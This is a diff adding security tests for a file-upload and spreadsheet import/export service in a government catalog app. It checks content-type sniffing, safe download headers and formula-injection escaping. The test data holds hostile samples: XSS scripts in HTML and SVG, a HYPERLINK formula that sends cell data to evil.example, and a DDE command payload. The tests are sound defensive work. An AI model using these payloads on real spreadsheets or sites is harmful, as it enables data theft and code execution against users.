@@ -1,5 +1,6 @@
 import { after, before, describe, test } from 'node:test';
 import assert from 'node:assert/strict';
+import { randomUUID } from 'node:crypto';
 import ExcelJS from 'exceljs';
 import { testBackends } from './support/database.ts';
 import { createTestContext, type TestContext } from './support/context.ts';
@@ -136,21 +137,74 @@ for (const backend of testBackends()) {
       assert.equal(new Set(keys).size, keys.length);
     });
 
-    test('blank forms upload as multipart and download by id', async () => {
+    const upload = (cookie: string, file: { name: string; type: string; data: Buffer }) => {
       const boundary = '----onewindow';
       const payload = Buffer.concat([
-        Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="低保申请书.docx"\r\nContent-Type: application/vnd.openxmlformats-officedocument.wordprocessingml.document\r\n\r\n`),
-        Buffer.from('PK fake docx bytes'),
+        Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${file.name}"\r\nContent-Type: ${file.type}\r\n\r\n`),
+        file.data,
         Buffer.from(`\r\n--${boundary}--\r\n`),
       ]);
-      const uploaded = await ctx.app.inject({ method: 'POST', url: '/api/files', headers: { cookie: admin, 'content-type': `multipart/form-data; boundary=${boundary}`, 'idempotency-key': 'upload-0001' }, payload });
+      return ctx.app.inject({ method: 'POST', url: '/api/files', headers: { cookie, 'content-type': `multipart/form-data; boundary=${boundary}`, 'idempotency-key': randomUUID() }, payload });
+    };
+    const pdf = Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n');
+    const png = Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63f8ffff3f0005fe02fea7d6a4a30000000049454e44ae426082', 'hex');
+    const fileRows = async () => Number((await ctx.database.db.selectFrom('catalog_files').select((eb) => eb.fn.countAll<string>().as('n')).executeTakeFirstOrThrow()).n);
+
+    test('blank forms upload as multipart and download by id, always as an attachment', async () => {
+      const uploaded = await upload(admin, { name: '低保申请书.pdf', type: 'application/pdf', data: pdf });
       assert.equal(uploaded.statusCode, 201, uploaded.body);
+      assert.deepEqual([uploaded.json().name, uploaded.json().contentType], ['低保申请书.pdf', 'application/pdf']);
       const file = await ctx.request({ method: 'GET', url: `/api/files/${uploaded.json().id}` });
       assert.equal(file.statusCode, 200);
-      assert.equal(file.body, 'PK fake docx bytes');
-      assert.match(file.headers['content-disposition'] as string, /filename\*=UTF-8''%E4%BD%8E%E4%BF%9D/);
-      const asReviewer = await ctx.app.inject({ method: 'POST', url: '/api/files', headers: { cookie: await ctx.signIn('reviewer.mz'), 'content-type': `multipart/form-data; boundary=${boundary}` }, payload });
+      assert.deepEqual(file.rawPayload, pdf);
+      assert.equal(file.headers['content-type'], 'application/pdf');
+      assert.equal(file.headers['content-disposition'], `attachment; filename="_____.pdf"; filename*=UTF-8''%E4%BD%8E%E4%BF%9D%E7%94%B3%E8%AF%B7%E4%B9%A6.pdf`);
+      assert.equal(file.headers['x-content-type-options'], 'nosniff');
+      assert.equal(file.headers['content-security-policy'], "default-src 'none'; sandbox");
+      const asReviewer = await upload(await ctx.signIn('reviewer.mz'), { name: '低保申请书.pdf', type: 'application/pdf', data: pdf });
       assert.equal(asReviewer.statusCode, 403);
+    });
+
+    test('what a file holds decides, not its name or declared type: a page or drawing dressed as a PDF is refused', async () => {
+      const before = await fileRows();
+      const auditBefore = (await ctx.database.db.selectFrom('audit_log').select('seq').execute()).length;
+      const html = await upload(admin, { name: '低保申请书.pdf', type: 'application/pdf', data: Buffer.from('<!DOCTYPE html><html><body><script>fetch("/api/auth/me")</script></body></html>') });
+      assert.equal(html.statusCode, 415, html.body);
+      assert.deepEqual(html.json().error, {
+        code: 'UNSUPPORTED_MEDIA_TYPE',
+        message: '空白表格或样表只接受 PDF、OFD、Word/WPS (.doc .wps)、Word (.docx)、Excel/WPS (.xls .et)、Excel (.xlsx)、JPEG、PNG 格式;按文件内容判断,改扩展名无效',
+        messageEn: 'A blank form or sample must be PDF, OFD, Word/WPS (.doc .wps), Word (.docx), Excel/WPS (.xls .et), Excel (.xlsx), JPEG, PNG; the content decides, not the file name',
+      });
+      const svg = await upload(admin, { name: '样表.png', type: 'image/png', data: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="10" height="10"/></svg>') });
+      assert.equal(svg.statusCode, 415);
+      const empty = await upload(admin, { name: '空.pdf', type: 'application/pdf', data: Buffer.alloc(0) });
+      assert.equal(empty.statusCode, 400);
+      assert.equal(empty.json().error.message, '文件为空');
+      assert.equal(await fileRows(), before, 'nothing stored');
+      assert.equal((await ctx.database.db.selectFrom('audit_log').select('seq').execute()).length, auditBefore, 'nothing audited');
+    });
+
+    test('an image is stored as what it is, under a name of its kind, whatever the client declared', async () => {
+      const uploaded = await upload(admin, { name: '样表.html', type: 'text/html', data: png });
+      assert.equal(uploaded.statusCode, 201, uploaded.body);
+      assert.deepEqual([uploaded.json().name, uploaded.json().contentType], ['样表.png', 'image/png']);
+      const file = await ctx.request({ method: 'GET', url: `/api/files/${uploaded.json().id}` });
+      assert.equal(file.headers['content-type'], 'image/png');
+      assert.match(file.headers['content-disposition'] as string, /^attachment; .*filename\*=UTF-8''%E6%A0%B7%E8%A1%A8\.png$/);
+      assert.equal(file.headers['x-content-type-options'], 'nosniff');
+    });
+
+    test('a file stored before uploads were checked is served as bytes to save, never as a page', async () => {
+      const [row] = await ctx.database.db
+        .insertInto('catalog_files')
+        .values({ name: '旧文件.html', content_type: 'text/html', size: 28, sha256: '0'.repeat(64), data: Buffer.from('<script>alert(1)</script>ok!'), created_at: new Date() })
+        .returning('id')
+        .execute();
+      const file = await ctx.request({ method: 'GET', url: `/api/files/${row!.id}` });
+      assert.equal(file.statusCode, 200);
+      assert.equal(file.headers['content-type'], 'application/octet-stream');
+      assert.match(file.headers['content-disposition'] as string, /^attachment; /);
+      assert.equal(file.headers['content-security-policy'], "default-src 'none'; sandbox");
     });
   });
 
@@ -230,6 +284,47 @@ for (const backend of testBackends()) {
       assert.equal(await versionCount(), before);
       assert.equal((await ctx.database.db.selectFrom('audit_log').select('seq').execute()).length, auditBefore);
       await assert.rejects(ctx.services.catalog.importWorkbook(system, Buffer.from('not a workbook')), (e: { details: { message: string }[] }) => /不是有效的 Excel/.test(e.details[0]!.message));
+    });
+
+    test('text that a spreadsheet would run as a formula is exported as text and imported back unchanged', async () => {
+      const hyperlink = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")';
+      const workbook = new ExcelJS.Workbook();
+      await workbook.xlsx.load((await ctx.services.catalog.exportWorkbook()).file as unknown as ArrayBuffer);
+      workbook.getWorksheet('事项')!.eachRow((row) => {
+        if (row.getCell(1).value === dibao) {
+          row.getCell(3).value = hyperlink;
+          row.getCell(4).value = '@SUM(1+1);低保';
+        }
+      });
+      const notes = ['-1', '+1', '\t=cmd|\' /C calc\'!A0'];
+      let material = 0;
+      workbook.getWorksheet('材料')!.eachRow((row) => {
+        if (row.getCell(1).value === dibao && material < notes.length) row.getCell(12).value = notes[material++]!;
+      });
+      assert.equal((await ctx.services.catalog.importWorkbook(system, Buffer.from(await workbook.xlsx.writeBuffer()))).published, 1);
+
+      const exported = await ctx.services.catalog.exportWorkbook();
+      const written = new ExcelJS.Workbook();
+      await written.xlsx.load(exported.file as unknown as ArrayBuffer);
+      let nameCell: ExcelJS.Cell | undefined;
+      written.getWorksheet('事项')!.eachRow((row) => {
+        if (row.getCell(1).value === dibao) nameCell = row.getCell(3);
+      });
+      assert.equal(nameCell!.type, ExcelJS.ValueType.String, 'a string cell, no formula');
+      assert.equal(nameCell!.value, `'${hyperlink}`);
+      const writtenNotes: unknown[] = [];
+      written.getWorksheet('材料')!.eachRow((row) => {
+        if (row.getCell(1).value === dibao) writtenNotes.push(row.getCell(12).value);
+      });
+      // (The tab was trimmed on the way in, as the import trims every cell.)
+      assert.deepEqual(writtenNotes.slice(0, 3), ["'-1", "'+1", "'=cmd|' /C calc'!A0"]);
+
+      const again = await ctx.services.catalog.importWorkbook(system, exported.file);
+      assert.equal(again.published, 0, 'nothing changed on the way back');
+      const item = await ctx.services.catalog.getPublished(dibao);
+      assert.equal(item.content.name, hyperlink);
+      assert.deepEqual(item.content.aliases[0], '@SUM(1+1)');
+      assert.deepEqual(item.content.materials.slice(0, 3).map((m) => m.notes), ['-1', '+1', "=cmd|' /C calc'!A0"]);
     });
   });
 }
